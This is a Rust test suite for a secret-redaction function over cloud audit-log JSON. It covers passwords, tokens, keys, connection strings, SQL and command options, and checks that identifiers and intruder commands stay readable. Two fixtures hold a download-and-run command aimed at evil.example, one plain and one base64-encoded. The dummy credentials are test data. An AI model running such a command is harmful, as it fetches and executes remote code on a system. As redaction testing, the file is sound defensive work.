//! Secrets in every form that is known, and texts that only look like them.

use proptest::prelude::*;
use serde::de::IgnoredAny;

use super::replacement::mark;
use super::{MAX_DEPTH, redacted};

#[track_caller]
fn check(record: &str, expected: &str) {
    assert_eq!(redacted(record), expected, "{record}");
}

const HUNTER: &str = "[redacted 7 chars sha256:f52fbd32]";

#[test]
fn a_secret_becomes_its_length_and_the_head_of_its_hash() {
    // From FIPS 180-2: the digest of `abc` begins with ba7816bf.
    check(
        r#"{"a":{"AccessKeySecret":"abc"}}"#,
        r#"{"a":{"AccessKeySecret":"[redacted 3 chars sha256:ba7816bf]"}}"#,
    );
    check(
        r#"{"Password":"a\u0062\u0063"}"#,
        r#"{"Password":"[redacted 3 chars sha256:ba7816bf]"}"#,
    );
    check(
        "{\"Password\":\"é云\"}",
        &format!("{{\"Password\":\"{}\"}}", mark("é云")),
    );
    assert!(mark("é云").starts_with("[redacted 2 chars "));
}

#[test]
fn the_value_beside_a_secret_name_is_replaced() {
    for (record, expected) in [
        (
            r#"{"Key":"Password","Value":"hunter2"}"#,
            r#"{"Key":"Password","Value":"HUNTER"}"#,
        ),
        (
            r#"{"Value":"hunter2", "Key" : "Password"}"#,
            r#"{"Value":"HUNTER", "Key" : "Password"}"#,
        ),
        (
            r#"[{"key":"user","value":"hunter2"},{"key":"db_password","value":"hunter2"}]"#,
            r#"[{"key":"user","value":"hunter2"},{"key":"db_password","value":"HUNTER"}]"#,
        ),
        (
            r#"{"P.1.ParameterKey":"a","P.1.ParameterValue":"b","P.2.ParameterKey":"Secret","P.2.ParameterValue":"hunter2"}"#,
            r#"{"P.1.ParameterKey":"a","P.1.ParameterValue":"b","P.2.ParameterKey":"Secret","P.2.ParameterValue":"HUNTER"}"#,
        ),
        (
            r#"{"Name":"passwd","Value":"hunter2""#,
            r#"{"Name":"passwd","Value":"HUNTER""#,
        ),
        (
            r#"{"Name":"passwd","x":{"Value":"a"}}"#,
            r#"{"Name":"passwd","x":{"Value":"a"}}"#,
        ),
        (
            r#"{"e":"[{\"Name\":\"passwd\",\"Value\":\"hunter2\"}]"}"#,
            r#"{"e":"[{\"Name\":\"passwd\",\"Value\":\"HUNTER\"}]"}"#,
        ),
        (
            r#"{"Value":"{\"token\":\"hunter2\"}","Name":"other"}"#,
            r#"{"Value":"{\"token\":\"HUNTER\"}","Name":"other"}"#,
        ),
    ] {
        check(record, &expected.replace("HUNTER", HUNTER));
    }
    // A value that names a secret itself is replaced as a whole.
    let whole = r#"{"Value":"{\"token\":\"a\"}","Name":"passwd"}"#;
    check(
        whole,
        &format!(
            r#"{{"Value":"{}","Name":"passwd"}}"#,
            mark(r#"{"token":"a"}"#)
        ),
    );
    check(
        r#"{"Name":"passwd","Value":1234567}"#,
        &format!(r#"{{"Name":"passwd","Value":"{}"}}"#, mark("1234567")),
    );
}

#[test]
fn names_are_secret_in_any_case_and_however_written() {
    for name in [
        "secret",
        "AccessKeySecret",
        "PASSWORD",
        "LoginPasswd",
        "SecurityToken",
        "Signature",
        "PrivateKey",
        "private_key",
        "userData",
        "UserData.1",
        "ClientToken",
        "x-acs-security-token",
        "pass\\u0077ord",
        "\\u0050assword",
        "pass/word",
        "private:key",
        "user\\tdata",
        "pass\\u200bword",
        "clientToken[]",
    ] {
        check(
            &format!(r#"{{"{name}" : "hunter2" , "b":1}}"#),
            &format!(r#"{{"{name}" : "{HUNTER}" , "b":1}}"#),
        );
    }
    for name in ["TokenType", "accessKeyId", "eventId", "keyId", "user"] {
        let record = format!(r#"{{"{name}":"hunter2"}}"#);
        check(&record, &record);
    }
}

/// In 0.1.0 these stayed.
#[test]
fn secrets_that_stayed_are_replaced() {
    for name in [
        "Plaintext",
        "Base32StringSeed",
        "QRCodePNG",
        "DB_PASS",
        "DB_PASS_PROD",
        "DBPASS",
        "pass",
        "REDIS_AUTH",
        "OPENAI_KEY",
        "OPENAI_KEY_2",
        "STRIPE_KEYS",
        "GITHUB_PAT",
        "JWT_KEY",
        "JWT",
        "SK",
        "OSS_SK",
        "accessSk",
        "TokenValue",
        "TOKEN_RO",
        "UserPwdNew",
        "MasterKey",
        "SharedKey",
        "SigningKey",
        "SessionKey",
        "SSHKey",
        "sshKey1",
        "EncryptionKey",
        "api_key",
        "X-Api-Key",
        "Credential",
        "Credentials",
        "Ticket",
        "client-key-data",
        "auth",
        "SAMLAssertion",
        "requestParameters_DB_PASS",
        "Set-Cookie",
    ] {
        check(
            &format!(r#"{{"a":{{"{name}":"hunter2"}}}}"#),
            &format!(r#"{{"a":{{"{name}":"{HUNTER}"}}}}"#),
        );
        check(
            &format!(r#"{{"Env":"{{\"{name}\":\"hunter2\"}}","b":["{name}=hunter2"]}}"#),
            &format!(r#"{{"Env":"{{\"{name}\":\"{HUNTER}\"}}","b":["{name}={HUNTER}"]}}"#),
        );
        check(
            &format!(r#"[{{"name":"{name}","value":"hunter2"}}]"#),
            &format!(r#"[{{"name":"{name}","value":"{HUNTER}"}}]"#),
        );
    }
}

/// The names of things, and what is said about secrets, are what an answer is about.
#[test]
fn names_that_identify_something_stay() {
    for name in [
        "AccessKeyId",
        "accessKeyId",
        "AccessKey",
        "ACCESS_KEY",
        "ALICLOUD_ACCESS_KEY",
        "KeyName",
        "Key",
        "KmsKeyId",
        "KMS_KEY",
        "KeyPairName",
        "SshKeyPairName",
        "KeyPairIds",
        "KeySpec",
        "KeyMaterialId",
        "MonkeyName",
        "PublicKey",
        "PUBLIC_KEY",
        "PublicKeyBody",
        "ObjectKey",
        "object_key",
        "TagKey",
        "ProductKey",
        "AppKey",
        "PrimaryKey",
        "TokenType",
        "TokenExpiration",
        "SecretName",
        "secretname",
        "SecretId",
        "SecretArn",
        "SecretType",
        "PasswordPolicy",
        "MinimumPasswordLength",
        "MaxPasswordAge",
        "PasswordReusePrevention",
        "PasswordResetRequired",
        "SignatureVersion",
        "SignatureMethod",
        "AuthType",
        "AuthMode",
        "VpcAuthMode",
        "ApiKeyId",
        "CredentialReport",
        "TicketId",
        "PassRole",
        "Passenger",
        "Compass",
        "MfaBypass",
        "Disk",
        "DISK",
        "Task",
        "DiskCategory",
        "Pattern",
        "PATH",
        "Author",
        "CommandContent",
        "Content",
        "Email",
        "MobilePhone",
        "eventName",
        "userAgent",
    ] {
        let record = format!(r#"{{"a":{{"{name}":"hunter2"}},"b":"{name}=hunter2"}}"#);
        check(&record, &record);
    }
    for record in [
        r#"{"PasswordPolicy":{"MinimumPasswordLength":8,"RequireSymbols":true,"HardExpire":false}}"#,
        r#"{"eventName":"GenerateCredentialReport","x":"sts:AssumeRole","y":"ram:PassRole"}"#,
        r#"{"eventName":"GenerateDataKeyWithoutPlaintext","serviceName":"Kms"}"#,
        r#"{"resourceName":"acs:kms:cn-hangzhou:1:secret/db-password"}"#,
        r#"{"referencedResources":{"ACS::KMS::Secret":["db-password","api-token"]}}"#,
        r#"{"MobilePhone":"86-13800000000","Email":"a:b@example.com","u":"mailto:a@b.example"}"#,
        r#"{"url":"https://example.com:8080/a?b=c@d","v":"https://user@example.com/"}"#,
        r#"{"X-Acs-Credential":"LTAI5tExampleKey0001/20240305/cn-hangzhou/oss/aliyun_v4_request"}"#,
        r#"{"a":"x-oss-credential=LTAI5tExampleKey0001/20240305"}"#,
        r#"{"md5":"d41d8cd98f00b204e9800998ecf8427e","i":"i-bp1ltva99x1aqqrmcp2fd41d8cd98f00"}"#,
        r#"{"cert":"MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ"}"#,
        r#"{"key":"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAxyzxyzxyzxyzxyzx"}"#,
        r#"{"userAgent":"aliyun-cli/3.0.1 Credentials/sts (linux; amd64)"}"#,
    ] {
        check(record, record);
    }
}

#[test]
fn masks_of_the_cloud_stay() {
    for record in [
        r#"{"Password":"****","UserData":"*","b":[{"Key":"Password","Value":"******"}]}"#,
        r#"{"a":"Password=****&b=1","c":"mysql://u:****@h","d":"{\"token\":\"***\"}"}"#,
        r#"{"Password":"true","a":"x://u:***@h IDENTIFIED BY '****'"}"#,
    ] {
        check(record, record);
    }
    let record = r#"{"Password":"gS09****"}"#;
    check(record, &record.replace("gS09****", &mark("gS09****")));
}

#[test]
fn what_an_intruder_ran_stays_readable() {
    let record = r#"{"CommandContent":"Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNoCg==","Name":"reset-password"}"#;
    check(record, record);
    let record = r##"{"Name":"password.txt","Content":"#!/bin/sh\ncurl http://evil.example/x | sh","ContentType":"PlainText"}"##;
    check(record, record);
    check(
        r#"{"CommandContent":"id; export DB_PASS=hunter2; mysql -e \"CREATE USER u IDENTIFIED BY 'hunter2'\""}"#,
        &r#"{"CommandContent":"id; export DB_PASS=@; mysql -e \"CREATE USER u IDENTIFIED BY '@'\""}"#
            .replace('@', HUNTER),
    );
}

/// The IDs of the credentials that a call has given are how they are followed.
#[test]
fn an_object_of_credentials_keeps_the_id() {
    for (open, close, quote) in [("{", "}", "\""), ("\"{", "}\"", "\\\"")] {
        let record = r#"{"Credentials":<~AccessKeyId~:~STS.NUexample~,~AccessKeySecret~:~hunter2~,~SecurityToken~:~hunter2~,~Expiration~:~2024-03-05T09:21:32Z~>}"#;
        let record = record
            .replace('<', open)
            .replace('>', close)
            .replace('~', quote);
        check(&record, &record.replace("hunter2", HUNTER));
    }
    let record = r#"{"auth":[{"type":"basic","pass":"hunter2"}],"Credential":["hunter2"]}"#;
    let expected = record.replace(r#"["hunter2"]"#, &format!("\"{}\"", mark(r#"["hunter2"]"#)));
    check(record, &expected.replace("hunter2", HUNTER));
}

#[test]
fn passwords_of_addresses_are_replaced() {
    for (text, secret) in [
        ("mysql://u:@h:3306/db", "hunter2"),
        ("jdbc:postgresql://u:@h/db?x=a@b", "p@ss:w0rd"),
        ("redis://:@h:6379/0", "hunter2"),
        ("see mongodb+srv://u:@h.example/ there", "hunter2"),
        ("amqp://u:@h", "pa/ss?w#rd"),
        ("https://x-access-token:@github.example/a.git", "hunter2"),
        ("DATABASE_URL=mysql://u:@h/d", "hunter2"),
        ("u=mysql%3A%2F%2Fu%3A@%40h", "hunter2"),
    ] {
        // The place of the password is the first `@`.
        let record = |secret: &str| {
            let text = text.replacen(":@", &format!(":{secret}@"), 1);
            let text = text.replacen("3A@", &format!("3A{secret}"), 1);
            serde_json::json!({"a": text}).to_string()
        };
        assert_eq!(redacted(&record(secret)), record(&mark(secret)));
    }
}

#[test]
fn passwords_of_sql_are_replaced() {
    for (text, secret) in [
        ("CREATE USER 'u'@'%' IDENTIFIED BY '~'", "hunter2"),
        ("create user u identified by \"~\"", "hunter2"),
        (
            "ALTER USER u IDENTIFIED WITH mysql_native_password BY '~' EXPIRE",
            "it''s",
        ),
        ("GRANT ALL ON *.* TO u IDENTIFIED BY PASSWORD '~'", "*0123"),
        ("CREATE USER u IDENTIFIED BY ~;", "hunter2"),
        ("CREATE ROLE r LOGIN PASSWORD '~'", "hunter2"),
        (
            "CREATE USER u WITH ENCRYPTED PASSWORD '~' CREATEDB",
            "hunter2",
        ),
        ("ALTER USER u WITH PASSWORD '~'", "a'' b"),
        ("CREATE LOGIN u WITH PASSWORD = N'~', x = 1", "hunter2"),
        ("SET PASSWORD FOR 'u'@'%' = '~'", "hunter2"),
        ("SET PASSWORD FOR u = PASSWORD('~')", "hunter2"),
        ("sql=IDENTIFIED+BY+%27~%27", "hunter2"),
    ] {
        let record = |secret: &str| serde_json::json!({"Sql": text.replace('~', secret)});
        let record = |secret: &str| record(secret).to_string();
        assert_eq!(redacted(&record(secret)), record(&mark(secret)));
    }
    let record = r#"{"a":"he identified a problem by looking","b":"no user is identified by u-1"}"#;
    check(record, record);
}

#[test]
fn keys_without_armour_and_bare_tokens_are_replaced() {
    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P";
    let lines = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nVJTUt9Us8cKjMzEfYyjiWA4R4==";
    for (text, secret) in [
        ("~", jwt),
        ("got ~, it said", jwt),
        ("https://h/~/x", "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0."),
        (
            "~",
            "MIIEpAIBAAKCAQEAxyzxyzxyzxyzxyzxyzxyzxyzxyzxyzxyzxyzxyz=",
        ),
        ("~", lines),
        (
            "x ~",
            "MHcCAQEEIODGmWvPkEz1bQ4sz5jEQ5bNuGz8aBcDeFgHiJkLmNoP",
        ),
        (
            "~",
            "MC4CAQAwBQYDK2VwBCIEIODGmWvPkEz1bQ4sz5jEQ5bNuGz8aBcDeFgHi",
        ),
        ("~", "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB"),
        ("~", "LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlFcEFJ"),
        ("~ x", "ghp_0123456789abcdefghijABCDEFGHIJ012345"),
        ("(~)", "sk-0123456789abcdef0123456789abcdef"),
    ] {
        let record = |secret: &str| serde_json::json!({"a": text.replace('~', secret)});
        assert_eq!(
            redacted(&record(secret).to_string()),
            record(&mark(secret)).to_string()
        );
    }
    for text in [
        "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNoCg==",
        "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSURkekNDQWwr",
        "eyJ",
        "eyJhbGciOiJIUzI1NiJ9",
        "task-0123456789abcdef0123456789abcdef",
        "disk-0123456789abcdef0123456789abcdef",
    ] {
        let record = format!(r#"{{"a":"{text}"}}"#);
        check(&record, &record);
    }
}

#[test]
fn lists_and_pairs_of_names_and_values_are_replaced() {
    for record in [
        r#"["Authorization","hunter2"]"#,
        r#"{"headers":[["Host","h"],["authorization" , "hunter2"]]}"#,
        r#"["Host","h","Cookie","hunter2","X-Api-Key","hunter2"]"#,
        r#"{"Env":["REDIS_AUTH","hunter2"]}"#,
        r#"{"Args":["serve","--password","hunter2"]}"#,
        r#"{"Args":"[\"serve\",\"--db-token\",\"hunter2\"]"}"#,
        r#"{"header":"Password","content":"hunter2"}"#,
        r#"{"content":"hunter2","Header":"Authorization"}"#,
        r#"{"key":"DB_PASS","contents":"hunter2"}"#,
        r#"{"name":"REDIS_AUTH","value":"hunter2"}"#,
        r#"{"Parameter":"MasterKey","Value":"hunter2"}"#,
    ] {
        check(record, &record.replace("hunter2", HUNTER));
    }
    for record in [
        r#"["Password","UserName","Email"]"#,
        r#"["x","Password","y"]"#,
        r#"{"a":"--password","b":"x"}"#,
        r#"{"a":"Authorization","b":"x"}"#,
        r#"["KeyName","x"]"#,
    ] {
        check(record, record);
    }
}

#[test]
fn everything_under_a_secret_name_is_replaced_and_doubled_names_too() {
    check(
        r#"{"Password":"hunter2","Password":"hunter2","b":[{"secret":"hunter2"}]}"#,
        &r#"{"Password":"@","Password":"@","b":[{"secret":"@"}]}"#.replace('@', HUNTER),
    );
    let nested = r#"{"a":["hunter2",{"b":"}"}]}"#;
    check(
        &format!(r#"{{"UserData": {nested} ,"c":1}}"#),
        &format!(r#"{{"UserData": "{}" ,"c":1}}"#, mark(nested)),
    );
}

#[test]
fn literals_stay() {
    let record = r#"{"Password":null,"PasswordResetRequired":true,"NextToken":""}"#;
    check(record, record);
}

#[test]
fn json_in_strings_is_searched() {
    check(
        r#"{"requestParameterJson":"{\"Password\":\"hunter2\",\"a\\/\":\"\\u00e9\\/\"}"}"#,
        &r#"{"requestParameterJson":"{\"Password\":\"@\",\"a\\/\":\"\\u00e9\\/\"}"}"#
            .replace('@', HUNTER),
    );
    check(
        r#"{"a":"{\"b\":\"{\\\"Password\\\":\\\"hunter2\\\"}\"}"}"#,
        &r#"{"a":"{\"b\":\"{\\\"Password\\\":\\\"@\\\"}\"}"}"#.replace('@', HUNTER),
    );
    check(
        r#"{"a":"see {\"Password\": \"hunter2\"} there"}"#,
        &r#"{"a":"see {\"Password\": \"@\"} there"}"#.replace('@', HUNTER),
    );
}

#[test]
fn pairs_in_text_are_found() {
    for (text, expected) in [
        (
            "https://h/?a=1&Signature=hunter2&b=2",
            "https://h/?a=1&Signature=@&b=2",
        ),
        (
            "a%26SecurityToken%3Dhunter2%26b",
            "a%26SecurityToken%3D@%26b",
        ),
        ("PASSWORD=hunter2", "PASSWORD=@"),
        (
            "<a><Password>hunter2</Password></a>",
            "<a><Password>@</Password></a>",
        ),
        (
            "x:\\n  DbPassword: hunter2\\ny: z",
            "x:\\n  DbPassword: @\\ny: z",
        ),
        ("{password: 'hunter2'}", "{password: '@'}"),
    ] {
        check(
            &format!(r#"{{"a":"{text}"}}"#),
            &format!(r#"{{"a":"{expected}"}}"#).replace('@', HUNTER),
        );
    }
    for text in [
        "InvalidSecurityToken.Expired: the token is too old",
        "The specified Password: is wrong",
        "signature does not match",
        "ram-user/a:b",
        "-----BEGIN CERTIFICATE-----hunter2-----END CERTIFICATE-----",
        "<a b='password'>hunter2</a>",
    ] {
        let record = format!(r#"{{"errorMessage":"{text}"}}"#);
        check(&record, &record);
    }
}

/// No part of a secret stays, whatever characters it has.
#[test]
fn a_secret_in_text_is_replaced_as_a_whole() {
    for (text, expected) in [
        ("a=1&Password=@&b=2", "P,w)S3cr;et}!"),
        ("password=@", "ab\\X"),
        ("password=@, x=1", "ab)X"),
        ("f(password=@)", "abc"),
        ("{password=@,x=1}", "a,b"),
        ("[db]\npassword = @\nx = 1", "foo bar; X"),
        ("[db]\npassword = @", "foo bar X"),
        ("password='@' x", r"ab\'X"),
        ("password=\"@\" x", r#"ab\"X"#),
        ("a:\n  password: |@b: c", "\n    one\n\n    two\n"),
        ("password: @", "hunter2"),
        ("{user: a, password: @}", "hunter2"),
        ("{\"password\"=>\"@\"}", "hunter2"),
        (":password => \"@\"", "hunter2"),
        ("password := \"@\"", "hunter2"),
        ("<Password type=\"x\">@</Password>", "hunter2"),
        ("<Password >@</Password>", "hunter2"),
        ("<Password>@</Password>", "<![CDATA[hunter2]]>"),
        ("<add key=\"Password\" value=\"@\"/>", "hunter2"),
        ("Tag.1.Key=Password&Tag.1.Value=@&x=1", "hunter2"),
        ("[{'Key': 'Password', 'Value': '@'}]", "hunter2"),
        (
            "x -----BEGIN RSA PRIVATE KEY-----@-----END RSA PRIVATE KEY-----",
            "\nhunter2\n",
        ),
        ("Authorization: @", "hunter2"),
        ("x\nAuthorization: Bearer @\ny", "hunter2"),
        ("curl -H 'Authorization: Bearer @' h", "hunter2"),
        ("pass%77ord=@", "hunter2"),
        ("a%253Fpassword%253D@", "hunter2"),
        ("{%22Password%22%3A%20%22@%22%2C%22a%22:1", "hunter2"),
    ] {
        let record = serde_json::json!({"a": text.replace('@', expected)}).to_string();
        let whole = serde_json::json!({"a": text.replace('@', &mark(expected))}).to_string();
        let block = text.contains('|');
        let found = redacted(&record).into_owned();
        if block {
            assert!(!found.contains("one") && !found.contains("two"), "{found}");
            assert!(found.contains("b: c"), "{found}");
        } else {
            assert_eq!(found, whole, "{record}");
        }
    }
    for (record, value) in [
        (
            r#"{"Key":"Password","Value":["hunter2",{"Value":"x"}]}"#,
            r#"["hunter2",{"Value":"x"}]"#,
        ),
        (
            r#"{"Key":"Password","Values":["hunter2"]}"#,
            r#"["hunter2"]"#,
        ),
        (
            r#"{"Key":"Password","Value":{"x":"hunter2"}}"#,
            r#"{"x":"hunter2"}"#,
        ),
    ] {
        check(
            record,
            &record.replace(value, &format!("\"{}\"", mark(value))),
        );
    }
}

#[test]
fn unsound_json_is_redacted() {
    check(
        r#"{"a":oops 01,"Password":hunter2 ,"b":1}"#,
        &r#"{"a":oops 01,"Password":"@" ,"b":1}"#.replace('@', HUNTER),
    );
    check(
        r#"{password:"hunter2",'secret':'hunter2'}"#,
        &r#"{password:"@",'secret':'@'}"#.replace('@', HUNTER),
    );
    for record in [
        r#"{"Password":"hunter2"#,
        r#"{"Password":{"a":["hunter2""#,
        r#"{"Password":"x" "hunter2","b":1}"#,
        r#"{"a":"{\"Password\":\"hunter2"}"#,
    ] {
        let text = redacted(record);
        assert!(!text.contains("hunter2"), "{record}: {text}");
    }
}

#[test]
fn any_depth_is_redacted() {
    let deep = format!("{}{}", "[".repeat(200_000), "]".repeat(200_000));
    let text = redacted(&format!(r#"{{"Password":{deep},"b":{deep}}}"#)).into_owned();
    assert!(text.starts_with(r#"{"Password":"[redacted 400000 chars "#));
    assert!(text.ends_with(&format!(r#","b":{deep}}}"#)));
    let mut text = r#"{"Password":"hunter2"}"#.to_owned();
    for _ in 0..MAX_DEPTH + 3 {
        text = format!(r#"{{"a":{}}}"#, serde_json::Value::from(text));
    }
    let text = redacted(&text);
    assert!(!text.contains("hunter2"));
    assert!(serde_json::from_str::<IgnoredAny>(&text).is_ok());
}

/// In quadratic time the test would hardly end.
#[test]
fn long_texts_take_no_longer_than_their_length() {
    for piece in [
        "--secret ",
        "mysql -p",
        "mysql -p'",
        "密码:",
        "密码:'",
        "secret: ",
        "\nsecret: ",
        "secret=",
        "secret\"",
        "\"secret\":{",
        "secret>",
        "\\\"secret",
        "\\",
        "<secret",
        "<secret ",
        "<secret>",
        "secret=,",
        "secret=a,b",
        "\nsecret: |\n",
        "='secret'",
        "Key=secret&",
        "-----BEGIN ",
        "%",
        "%25",
        "\"%22\\\"",
        "-----BEGIN PRIVATE KEY-----",
        "\"a\":\"b=",
        "auth={",
        "\"auth\":[{",
        "\"auth\":{",
        "[\"auth\",",
        "[\"Authorization\",",
        "IDENTIFIED BY '",
        "identified with ",
        "password for ",
        "password ",
        "://",
        "://a:",
        "://a:b@",
        "eyJ",
        "eyJeyJeyJ.",
        "eyJeyJeyJ.eyJeyJ.",
        "MIIEpAIBAAKCAQEAxyzxyzxyzxyzxyzxyzxyz\n",
        "{\"a\":\"secret%3D",
    ] {
        let text = piece.repeat((1 << 16) / piece.len());
        let _ = redacted(&text);
        let _ = redacted(&serde_json::Value::from(text).to_string());
    }
}

/// A value as text of JSON: plain, nested, or JSON in a string, with the secret in places
/// where it has to be found.
pub(crate) fn value(secret: &'static str) -> impl Strategy<Value = String> {
    let name = prop_oneof![
        Just("Password"),
        Just("accessKeySecret"),
        Just("S\\u0065cret"),
        Just("PRIVATEKEY"),
        Just("token"),
        Just("user_data"),
    ];
    let hidden = (
        name,
        prop_oneof![
            Just(format!("\"{secret}\"")),
            Just(format!("{{\"a\":[\"{secret}\",1]}}")),
            Just(format!("[\"{secret}\"]")),
        ],
    )
        .prop_map(|(name, value)| format!("{{\"x\":1,\"{name}\": {value} ,\"y\":\"z\"}}"));
    let plain = prop_oneof![Just("1".to_owned()), Just("\"é \\/ \\ud800\"".to_owned())];
    prop_oneof![hidden, plain].prop_recursive(5, 24, 3, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..3)
                .prop_map(|all| format!("[{}]", all.join(" , "))),
            (inner.clone(), inner.clone())
                .prop_map(|(one, two)| format!("{{\"b\":{one},\"b\":{two}}}")),
            inner.prop_map(|text| serde_json::Value::from(text).to_string()),
        ]
    })
}

proptest! {
    #[test]
    fn no_secret_survives_and_sound_json_stays_sound(value in value("s3cr3tv4lue")) {
        let text = redacted(&value);
        prop_assert!(!text.contains("s3cr3tv4lue"), "{} -> {}", value, text);
        prop_assert!(serde_json::from_str::<IgnoredAny>(&text).is_ok(), "{} -> {}", value, text);
        prop_assert_eq!(text.contains("redacted"), value.contains("s3cr3tv4lue"));
    }

    #[test]
    fn text_without_a_secret_name_stays(value in value("x").prop_filter(
        "has none", |value| !value.contains('x'),
    )) {
        prop_assert_eq!(redacted(&value), value.as_str());
    }

    #[test]
    fn any_text_is_taken(text in "([\\[\\]{},;:\"'=()|/ \\\\<>&%\n]|token|3D|u00|é|secret|key|value|-----BEGIN |PRIVATE KEY-----){0,24}") {
        let _ = redacted(&text);
    }
}

/// Commands showed the passwords in their options.
#[test]
fn passwords_in_options_of_commands_are_replaced() {
    for text in [
        "mycli --user u --password hunter2 --host h",
        "mycli --db-password=hunter2 x",
        "keytool -storepass hunter2 -v",
        "sh -c 'x --api-key \"hunter2\" y'",
        "mysql -h h -u root -phunter2 -e 'select 1'",
        "/usr/bin/mysqldump -p'hunter2' db > f; mysql -P3306",
        "cd /; mysqladmin -uroot -phunter2 ping",
        "sshpass -p hunter2 ssh u@h",
        "redis-cli -a hunter2 ping",
        "mongosh -u u -p hunter2 db",
    ] {
        let record = |text: &str| serde_json::json!({"CommandContent": text}).to_string();
        check(&record(text), &record(&text.replace("hunter2", HUNTER)));
        assert_eq!(redacted(text), text.replace("hunter2", HUNTER));
    }
    for text in [
        "the option --password is required",
        "use --password, or --password-file f",
        "adduser --disabled-password bob",
        "ansible-playbook --ask-pass site.yml",
        "login --password <password>",
        "login --password-stdin --password --user u",
        "mysql -p db",
        "mysql -P3306 -h h",
        "cp -pr a b; mkdir -p c",
        "apt install mysql-server -y",
        "docker run -p 80:80 mysql",
    ] {
        let record = serde_json::json!({"CommandContent": text}).to_string();
        check(&record, &record);
    }
}

/// Names in Chinese were no names of secrets.
#[test]
fn values_of_names_in_chinese_are_replaced() {
    for text in [
        "密码:hunter2",
        "数据库密码：hunter2，请勿外传",
        "口令 = hunter2",
        "{'密码': 'hunter2'}",
    ] {
        let record = |text: &str| serde_json::json!({"a": text}).to_string();
        check(&record(text), &record(&text.replace("hunter2", HUNTER)));
        assert_eq!(redacted(text), text.replace("hunter2", HUNTER));
    }
    check(
        r#"{"登录密码":"hunter2"}"#,
        &format!(r#"{{"登录密码":"{HUNTER}"}}"#),
    );
    for text in ["密码：不正确", "密码错误", "请重置密码", "密码策略：strong"] {
        let record = serde_json::json!({"a": text}).to_string();
        check(&record, &record);
    }
}

/// The command that `RunCommand` sends is base64, which hid its secrets from the search.
#[test]
fn base64_of_a_text_with_a_secret_is_replaced_as_a_whole() {
    for secret in [
        // mysql -uroot -phunter2 -e 'show tables'
        "bXlzcWwgLXVyb290IC1waHVudGVyMiAtZSAnc2hvdyB0YWJsZXMn",
        // export DB_PASSWORD=hunter2
        "ZXhwb3J0IERCX1BBU1NXT1JEPWh1bnRlcjIK",
        "ZXhwb3J0IERCX1BB\nU1NXT1JEPWh1bnRlcjIK",
    ] {
        let record = |text: &str| serde_json::json!({"CommandContent": text}).to_string();
        check(&record(secret), &record(&mark(secret)));
    }
    for text in [
        // curl http://evil.example/x.sh | bash
        "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBiYXNoCg==",
        // mysql -uroot -p -e 'show tables'
        "bXlzcWwgLXVyb290IC1wIC1lICdzaG93IHRhYmxlcycK",
        "LTAI5tExampleKey00000001",
        "DescribeInstanceStatus00",
    ] {
        let record = serde_json::json!({"CommandContent": text}).to_string();
        check(&record, &record);
    }
}

/// The texts of a saved state are without their secrets, and are shown like those of its archive.
#[test]
fn a_mark_was_replaced_by_a_mark_of_itself() {
    for text in [
        "the password=hunter2hunter2 is wrong",
        "curl --password hunter2hunter2 x",
        "mysql://user:hunter2hunter2@host",
        "IDENTIFIED BY 'hunter2hunter2'",
        r#"{"password":"hunter2hunter2","a":["Authorization","hunter2"]}"#,
        "密码: hunter2hunter2",
        "Authorization: Bearer hunter2hunter2",
    ] {
        let once = redacted(text);
        assert_ne!(once, text);
        assert_eq!(redacted(&once), once);
    }
}
